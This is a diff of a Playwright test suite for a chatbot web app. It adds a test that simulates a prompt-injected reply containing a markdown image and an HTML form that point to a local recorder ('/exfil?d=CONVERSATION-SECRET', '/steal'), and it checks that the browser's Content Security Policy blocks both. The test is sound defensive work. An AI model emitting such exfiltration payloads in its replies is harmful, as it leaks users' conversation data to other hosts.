@@ -12,7 +12,12 @@ from pathlib import Path
 
 import pytest
 from conftest import KEY, NO_RATE_LIMITS, PERSONAS, PNG, ROOT, RunningApp, ask_async, launch_app, wait_for
+from kimi_server import serve_in_thread
 from playwright.sync_api import Browser, Page, expect, sync_playwright
+from starlette.applications import Starlette
+from starlette.requests import Request
+from starlette.responses import Response
+from starlette.routing import Route
 
 OUT = ROOT / "test-output"
 CHROMIUM = "/usr/bin/chromium"
@@ -38,6 +43,7 @@ def browser() -> Iterator[Browser]:
 def open_page(browser, app, upstream) -> Iterator:
     """open_page(locale=..., width=..., height=...) -> a loaded page; JS errors fail the test."""
     errors: list[str] = []
+    tolerated: list[str] = []  # console errors a test expects (the browser reporting a blocked load)
     contexts = []
 
     def record_console(message) -> None:
@@ -48,10 +54,16 @@ def open_page(browser, app, upstream) -> Iterator:
         errors.append(str(error))
 
     def open_(
-        locale: str = "en-US", width: int = 1280, height: int = 900, after: Page | None = None, url: str = ""
+        locale: str = "en-US",
+        width: int = 1280,
+        height: int = 900,
+        after: Page | None = None,
+        url: str = "",
+        tolerate: tuple[str, ...] = (),
     ) -> Page:
         """A new page (of the app at ``url``, else the suite's app); ``after`` closes that page and
-        opens its browser profile again."""
+        opens its browser profile again; console errors containing a ``tolerate`` text are expected."""
+        tolerated.extend(tolerate)
         if after is None:
             context = browser.new_context(
                 locale=locale, viewport={"width": width, "height": height}, accept_downloads=True
@@ -73,7 +85,8 @@ def open_page(browser, app, upstream) -> Iterator:
     yield open_
     for context in contexts:
         context.close()
-    assert errors == [], f"JavaScript errors: {errors}"
+    unexpected = [e for e in errors if not any(t in e for t in tolerated)]
+    assert unexpected == [], f"JavaScript errors: {unexpected}"
 
 
 def send(page: Page, text: str) -> None:
@@ -259,6 +272,40 @@ def test_the_bot_avatar_follows_the_persona_and_new_chat_keeps_the_saved_one(ope
     saved = page.locator(SAVED)
     for text in ("first chat", "second chat", "third chat"):  # a new chat never overwrites the one before
         expect(saved).to_contain_text(text)
+
+
+def test_a_reply_cannot_make_the_browser_call_another_host(open_page, upstream):
+    """A reply steered by a prompt injection: an image and a form naming another host (a local
+    recorder here) must not reach it, neither at once nor on a click."""
+    seen: list[str] = []
+
+    async def record(request: Request) -> Response:
+        seen.append(str(request.url))
+        return Response("pixel")
+
+    server, port = serve_in_thread(Starlette(routes=[Route("/{path:path}", record, methods=["GET", "POST"])]))
+    try:
+        page = open_page(tolerate=("Content Security Policy",))
+        here = page.url
+        chat(
+            page,
+            upstream,
+            f"![pixel](http://127.0.0.1:{port}/exfil?d=CONVERSATION-SECRET) "
+            f'<form action="http://127.0.0.1:{port}/steal"><button id="steal">go</button></form>',
+        )
+        image = page.locator(f'#chatbot img[src*="{port}/exfil"]').last
+        expect(image).to_be_attached()  # rendered: the browser was asked to load it
+        assert wait_for(lambda: image.evaluate("img => img.complete"), 10)  # and has finished with it
+        if page.locator("#chatbot #steal").count():  # a form that survived the chatbot's sanitizing
+            page.evaluate(  # kept on the page, awaited after the click
+                "() => { window.blocked = new Promise(done => document.addEventListener("
+                "'securitypolicyviolation', (e) => done(e.effectiveDirective), {once: true})); }"
+            )
+            page.locator("#chatbot #steal").last.click(no_wait_after=True)
+            assert page.evaluate("() => window.blocked") == "form-action"  # the browser refused to send it
+        assert seen == [] and page.url == here
+    finally:
+        server.should_exit = True
 
 
 def test_the_temperature_slider_shows_only_for_models_that_take_one(open_page, upstream):
